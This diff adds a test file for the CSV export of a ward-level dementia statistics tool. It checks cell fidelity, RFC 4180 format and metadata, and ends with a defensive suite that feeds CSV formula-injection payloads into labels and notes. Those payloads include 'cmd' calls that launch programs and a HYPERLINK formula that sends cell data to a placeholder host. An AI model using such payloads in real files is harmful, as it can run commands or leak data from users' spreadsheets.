@@ -1,0 +1,142 @@
+import { describe, expect, test } from 'vitest';
+import { csvText, withoutFormula } from '../../../src/lib/exports/csv-text';
+import { toCsv } from '../../../src/lib/exports/csv';
+import { figures, roundAsShown } from '../../../src/lib/protocol/format';
+import type { SafeTable } from '../../../src/lib/protocol/safe-table';
+import { parseCsv } from '../../support/parse-csv';
+import { ages, makeTable, wards } from '../../support/safe-tables';
+
+const headings = {
+	value: 'Value',
+	lower: 'Lower CI 95.0 limit',
+	upper: 'Upper CI 95.0 limit',
+	numerator: 'Count',
+	denominator: 'Denominator'
+};
+
+function recordsOf(table: SafeTable, excel = false): Record<string, string>[] {
+	const [header = [], ...rows] = parseCsv(toCsv(table, { excel }).text.replace(/^\ufeff/, ''));
+	return rows.map((row) => {
+		expect(row).toHaveLength(header.length);
+		return Object.fromEntries(header.map((name, index) => [name, row[index] ?? '']));
+	});
+}
+
+describe('the file is the table shown', () => {
+	test.each(['proportion', 'crude-rate', 'count'] as const)('every cell of a %s comes back, numbers as numbers', (kind) => {
+		const table = makeTable({ kind, dimensions: [wards, ages] });
+		const records = recordsOf(table);
+		expect(records).toHaveLength(table.rows.length);
+		for (const [index, row] of table.rows.entries()) {
+			const record = records[index] ?? {};
+			expect(record['Area Code']).toBe(row.groups[0] ?? '');
+			expect(record['Age code']).toBe(row.groups[1] ?? '');
+			for (const figure of figures) {
+				const cell = row[figure];
+				const heading = headings[figure];
+				const status = record[`${heading} status`];
+				if (cell.shown) {
+					expect(Number(record[heading])).toBe(roundAsShown(cell.value, table.measure, figure));
+					expect(record[heading]).toMatch(/^-?\d+(\.\d+)?$/);
+					expect(status).toBe('');
+				} else {
+					expect(record[heading]).toBe('');
+					expect(['[c]', '[z]', '[x]']).toContain(status);
+				}
+			}
+		}
+	});
+
+	test('a hidden row has no digit but those of its codes and labels', () => {
+		const hidden = recordsOf(makeTable()).filter((record) => record['Value status'] === '[c]');
+		expect(hidden).toHaveLength(2);
+		for (const record of hidden) {
+			const figuresAndMore = { ...record, 'Area Code': '', 'Indicator Name': '' };
+			expect(Object.values(figuresAndMore).join('')).not.toMatch(/\d/);
+		}
+	});
+
+	test('totals have their own label and no code', () => {
+		const total = recordsOf(makeTable()).at(-1);
+		expect(total).toMatchObject({
+			'Area Type': 'place',
+			'Area Code': '',
+			'Area Name': 'Southend-on-Sea',
+			Value: '46',
+			Count: '965'
+		});
+	});
+
+	test('the same table gives the same bytes', () =>
+		expect(toCsv(makeTable(), { excel: true })).toEqual(toCsv(makeTable(), { excel: true })));
+});
+
+describe('the form is RFC 4180', () => {
+	test('records end with CRLF, quotes are doubled, commas and line ends quoted', () => {
+		expect(csvText([['a', 'b "c", d', 'e\nf', 1.5, null]])).toBe('a,"b ""c"", d","e\nf",1.5,\r\n');
+	});
+
+	test('a byte-order mark for Excel only', () => {
+		expect(toCsv(makeTable(), { excel: true }).text.startsWith('\ufeffIndicator ID,')).toBe(true);
+		expect(toCsv(makeTable(), { excel: false }).text.startsWith('Indicator ID,')).toBe(true);
+	});
+});
+
+describe('the side file says what the figures are', () => {
+	const { fileName, sideFile } = toCsv(makeTable({ notes: ['Totals may not equal the sum of their parts.'] }), { excel: false });
+	const items = parseCsv(sideFile.text);
+
+	test('question, definition, policy, source, period, extract date, caveats, shorthand', () => {
+		expect(fileName).toBe('wardwise-dementia-no-care-by-ward.csv');
+		expect(sideFile.fileName).toBe('wardwise-dementia-no-care-by-ward-about.csv');
+		for (const item of [
+			'Question',
+			'Definition',
+			'Disclosure control',
+			'Source',
+			'Period of GP register',
+			'Date of extract of GP register',
+			'Caveat',
+			'Note',
+			'Shorthand'
+		]) {
+			expect(items.map(([name]) => name)).toContain(item);
+		}
+		expect(items.find(([name]) => name === 'Shorthand')?.[1]).toBe('[c] confidential: not shown to protect people');
+		expect(items.find(([name]) => name === 'Data')?.[1]).toContain('Synthetic');
+	});
+});
+
+const starts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+const bodies = ["cmd|'/c calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"a")', '1+1'];
+const payloads = starts.flatMap((start) => bodies.map((body) => start + body));
+const spaced = payloads.flatMap((payload) => [` ${payload}`, `\u00a0${payload}`, `\n${payload}`]);
+
+describe('T21: no cell of a file is a formula', () => {
+	test('there are 40 payloads', () => expect(new Set(payloads).size).toBe(40));
+
+	test.each([...payloads, ...spaced])('as a label, a title and a note %#', (payload) => {
+		const table = makeTable({
+			title: payload,
+			notes: [payload],
+			dimensions: [
+				{
+					...wards,
+					totalLabel: payload,
+					groups: wards.groups.map((group, index) => (index === 0 ? { code: payload, label: payload } : group))
+				}
+			]
+		});
+		for (const text of [toCsv(table, { excel: true }).text, toCsv(table, { excel: true }).sideFile.text]) {
+			const cells = parseCsv(text.replace(/^\ufeff/, '')).flat();
+			expect(cells).toContain(`'${payload}`);
+			for (const cell of cells) expect(cell.trim()).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+		}
+	});
+
+	test('ordinary labels and negative numbers are left alone', () => {
+		expect(withoutFormula('65-79')).toBe('65-79');
+		expect(withoutFormula('St. Luke’s')).toBe('St. Luke’s');
+		expect(csvText([[-1.5]])).toBe('-1.5\r\n');
+	});
+});
